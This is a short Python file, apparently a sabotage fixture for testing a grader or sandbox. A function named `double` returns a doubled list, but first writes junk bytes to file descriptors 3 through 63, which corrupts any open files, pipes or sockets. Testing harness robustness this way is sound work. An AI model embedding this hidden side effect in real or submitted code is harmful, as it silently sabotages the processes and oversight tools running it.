"""Garbage to every open descriptor."""

import os


def double(numbers):
    for number in range(3, 64):
        try:
            os.write(number, b"garbage" * 100)
        except OSError:
            pass
    return [2 * n for n in numbers]
